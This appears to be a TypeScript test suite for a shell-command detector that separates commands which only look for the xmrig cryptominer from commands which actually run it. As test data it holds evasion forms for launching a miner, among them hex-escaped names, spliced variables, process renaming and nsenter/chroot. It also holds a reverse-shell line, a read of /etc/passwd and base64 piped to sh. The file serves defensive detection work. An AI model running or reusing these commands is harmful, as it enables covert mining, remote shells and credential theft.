import { strict as assert } from 'node:assert';
import { actingParts, actingText, programsOf } from '../../../shared/detection/command.ts';

describe('a command line', () => {
  const looks = [
    'ps aux | grep -E "xmrig|minerd"',
    'ps aux | grep -E xmrig|minerd',
    'pgrep -f xmrig|minerd',
    "sh -c 'ps aux | grep xmrig'",
    'sudo /bin/ls -l /tmp/xmrig',
    'pkill -9 xmrig; ps',
    '/usr/bin/pgrep -f xmrig|minerd',
    'sh -c ps aux|grep -E "xmrig|minerd"',
    'sh -c ps aux | grep -E xmrig|minerd',
    'sudo sh -c "ps aux | grep xmrig"',
    'sh -c ls /tmp/xmrig 2>&1 >/dev/null',
    'sh -c grep xmrig <(ps aux)',
    'grep -E (xmrig|minerd) /tmp/a',
    'find / -name xmrig -type f',
    'find / ( -name xmrig -o -name minerd ) -exec ls -l {} ;',
    'find / -type f -exec grep -l xmrig {} +',
    'sh -c find / -type f -exec sh -c \'grep -l xmrig "$1" | cut -d: -f1\' _ {} \\;',
    'sh -c find /tmp -type f | xargs -r -n 1 grep -l xmrig',
    'sh -c ls /proc | xargs -I {} grep -l xmrig /proc/{}/cmdline',
    'sh -c if grep -q xmrig /tmp/a; then ls -l /tmp/xmrig; else ! pgrep xmrig; fi',
    'sh -c { grep xmrig /tmp/a; }',
    'sh -c ( grep xmrig /tmp/a )',
    'sh -c [ -x /tmp/xmrig ] && test -f /tmp/xmrig && [[ -d /opt/xmrig ]]',
    'sed -n /xmrig/p /etc/crontab',
    'awk /xmrig/ /etc/crontab',
    "sh -c tr '\\0' ' ' </proc/7/cmdline",
    'command -v xmrig',
    'command -V xmrig',
    'sudo -u nobody timeout 5 grep -r xmrig /etc',
    'xargs',
    "sh -c ps aux | grep xmrig | awk '{print $2}'",
  ];
  for (const line of looks) {
    it(`only reads: ${line}`, () => {
      assert.deepEqual(programsOf(line), []);
      assert.doesNotMatch(actingText(line), /xmrig/);
    });
  }

  const acts: Array<[string, string]> = [
    ['ps; ./xmrig', 'xmrig'],
    ['grep -q x /etc/hosts && /tmp/xmrig -o a', 'xmrig'],
    ['ls & xmrig', 'xmrig'],
    ['true|xmrig', 'xmrig'],
    ['grep x $(xmrig)', 'xmrig'],
    ['grep `xmrig`', 'xmrig'],
    ["sh -c 'cd /tmp; nohup ./xmrig'", 'xmrig'],
    ['FOO=1 nice -n 19 timeout 5m /tmp/.x/XMRig', 'xmrig'],
    ["grep 'a ; xmrig", 'xmrig'],
    ['x"mri"g -o a', 'xmrig'],
    ['sh -c ls|xmrig -o a', 'xmrig'],
    ['sh -c ls\t|\txmrig', 'xmrig'],
    ['sh -c ls |& xmrig', 'xmrig'],
    ['sh -c grep x /etc/hosts|./xmrig -o a', 'xmrig'],
    ["sh -c grep -v '#' /etc/hosts|xmrig", 'xmrig'],
    ['bash -c ls > >(xmrig -o a)', 'xmrig'],
    ['bash -c ls "$(ps; xmrig)"', 'xmrig'],
    ['sh -c case a in a) xmrig;; esac', 'xmrig'],
    ['sh -c echo $(case a in a) xmrig;; esac)', 'xmrig'],
    ['sh -c case a in a) id;; esac; xmrig # :)', 'xmrig'],
    ['sh -c xmrig # :)', 'xmrig'],
    [`env A=${'x'.repeat(4000)} sh -c grep a|./xmrig -o b`, 'xmrig'],
    ['sh -c id | xargs -i xmrig {}', 'xmrig'],
    ['ls; bash -c "ps; xmrig"', 'xmrig'],
    ['sh -c xm\\\nrig', 'xmrig'],
    ['find /tmp -name a -exec xmrig -o b ;', 'xmrig'],
    ['find / -exec grep -q a {} ; -exec /tmp/xmrig {} ;', 'xmrig'],
    ["find / -exec sh -c 'ls; xmrig' {} ;", 'xmrig'],
    ['sh -c ls | xargs -n 1 xmrig', 'xmrig'],
    ['command xmrig', 'xmrig'],
    ['sh -c while true; do xmrig -c c.json; sleep 5; done', 'xmrig'],
    ['sh -c until false; do sleep 1; xmrig; done', 'xmrig'],
    ['sh -c if true; then xmrig; fi', 'xmrig'],
    ['sh -c if xmrig; then true; fi', 'xmrig'],
    ['sh -c { xmrig; }', 'xmrig'],
    ['sh -c (cd /tmp && xmrig)', 'xmrig'],
    ['sh -c f() { xmrig; }; f', 'xmrig'],
    ['sh -c f(){ xmrig; }; f', 'xmrig'],
    ['sh -c xmrig>/dev/null 2>&1 &', 'xmrig'],
    ['sh -c xmrig 2>/dev/null', 'xmrig'],
    ['sh -c >/dev/null xmrig', 'xmrig'],
    ['sh -c 2>/dev/null </dev/null xmrig', 'xmrig'],
    ['bash -c exec -a kworker xmrig', 'xmrig'],
    ['taskset -c 0-3 xmrig', 'xmrig'],
    ['taskset 0x3 xmrig', 'xmrig'],
    ['chroot /host /tmp/xmrig', 'xmrig'],
    ['nsenter -t 1 -m -- /tmp/xmrig', 'xmrig'],
    ['nsenter --target 1 --mount /tmp/xmrig', 'xmrig'],
    ['nsenter -t1 -m sh -c cd /tmp; ./xmrig', 'xmrig'],
    ['sudo -u nobody xmrig', 'xmrig'],
    ['sudo --user nobody A=1 xmrig', 'xmrig'],
    ['su nobody -s /bin/sh -c "cd /tmp; xmrig"', 'xmrig'],
    ['gosu nobody xmrig', 'xmrig'],
    ['tini -s -- /usr/bin/xmrig -c /c.json', 'xmrig'],
    ['/usr/bin/dumb-init xmrig', 'xmrig'],
    ['timeout -s KILL 5m nice -n19 ionice -c 3 cpulimit -l 70 -- xmrig', 'xmrig'],
    ['screen -dmS a xmrig', 'xmrig'],
    ['watch -n 5 "ls; xmrig"', 'xmrig'],
    ['env -S "xmrig -c a"', 'xmrig'],
    ['/lib64/ld-linux-x86-64.so.2 /tmp/xmrig', 'xmrig'],
    ['sh xmrig.sh', 'xmrig.sh'],
    ['bash -o posix -c xmrig', 'xmrig'],
    ['sh -c ! xmrig', 'xmrig'],
    ['sh -c for f in a b; do xmrig -c $f; done', 'xmrig'],
    ['sh -c a=xm; b=rig; ./$a$b', 'xmrig'],
    [`sh -c 'export A=xm; B="rig -o a"; ./\${A}$B'`, 'xmrig'],
    ["sh -c p='/tmp/xmrig -o a'; nice $p", 'xmrig'],
    ["bash -c $'\\x78m\\x72ig -o a'", 'xmrig'],
    ["bash -c $'\\170mrig'", 'xmrig'],
  ];
  for (const [line, program] of acts) {
    it(`runs something: ${line}`, () => assert.ok(programsOf(line).includes(program), String(programsOf(line))));
  }

  it('is expanded only by what it says itself', () => {
    const plain = (line: string): string | undefined => actingText(line).split('\n')[1];
    assert.equal(plain(`a=1; id $a \${a}b $ab $b "$c"`), 'a=1; id 1 1b $ab $b $c');
    assert.equal(plain('a=$b; id $a'), 'a=$b; id $a');
    assert.equal(plain("id 'end$' \\x0a \\x00 \\x22 \\1"), 'id end$ x0a x00 x22 1');
    const long = `a=${'x'.repeat(250)}; id ${'$a '.repeat(5000)}`;
    assert.ok(actingText(long).length < 3 * (long.length + 16 * 1024));
  });

  it('only reads if the program is in a system folder', () => {
    for (const ps of ['ps', '/bin/ps', '/usr/bin/ps', '/sbin/ps', '/usr/sbin/ps'])
      assert.deepEqual(actingParts(ps), []);
    for (const ps of ['/tmp/ps', './ps', '/opt/ps', '/tmp/usr/bin/ps']) assert.deepEqual(actingParts(ps), [ps]);
  });

  it('does not run the arguments of a program', () => {
    for (const line of [
      'sudo -u xmrig id',
      'exec -a xmrig id',
      'chroot /xmrig id',
      'taskset -c 0-3 id xmrig',
      'timeout 5 id xmrig',
      'nsenter -t 1 -m -- id xmrig',
      'sh -c for xmrig in a; do id $xmrig; done',
      'sh -c id >xmrig 2>>/tmp/xmrig',
      'sh -c XMRIG=1 id # xmrig',
      'tini -- id xmrig',
      'flock /tmp/xmrig id',
      'screen -r xmrig',
      'sh -c case $(cat /proc/1/comm) in xmrig|minerd) id;; kinsing | xmrig ) id;; esac',
      'sh -c case $1 in\n  id) id;;\n  xmrig|minerd)\n id;;\nesac',
      'find / ( -name xmrig -o -name a ) -exec id {} ;',
    ]) {
      assert.ok(!programsOf(line).includes('xmrig'), line);
    }
  });

  it('does more than read if it runs or writes what it finds', () => {
    for (const line of [
      `awk 'BEGIN{system("id")}'`,
      `awk '{print | "sh"}' a`,
      `awk 'BEGIN{"id" | getline a}'`,
      'sed -i s/a/b/ /etc/crontab',
      'sed -ni.old s/a/b/ /etc/crontab',
      "sed 's/a/id/e' b",
      "sed '1e id' b",
      "sed 's/a/id/' b | sh",
      "sed 's/a/id/' b | tr a b|/bin/bash -s",
      "sh -c awk '{print $1}' a | python3 -",
      `awk 'BEGIN{print "id"}' > /tmp/a`,
    ]) {
      assert.equal(actingParts(line).join(''), line.replace(/^sh -c /, ''));
    }
  });

  it('is split only outside quotes', () => {
    assert.deepEqual(actingParts(`echo "a; b" ; echo 'c | d' | tee e`), ['echo "a; b" ', "; echo 'c | d' ", '| tee e']);
    assert.deepEqual(actingParts('bash -i >& /dev/tcp/h/1 0>&1'), ['bash -i >& /dev/tcp/h/1 0>&1']);
  });

  it('is read without quotes and escapes, and with base64 decoded', () => {
    assert.match(actingText(`b''as\\h -i`), /\nbash -i/);
    assert.match(actingText('cat$IFS/etc/passwd'), /cat \/etc\/passwd/);
    assert.match(actingText(`echo ${Buffer.from('hidden words here').toString('base64')} | sh`), /hidden words here/);
  });
});
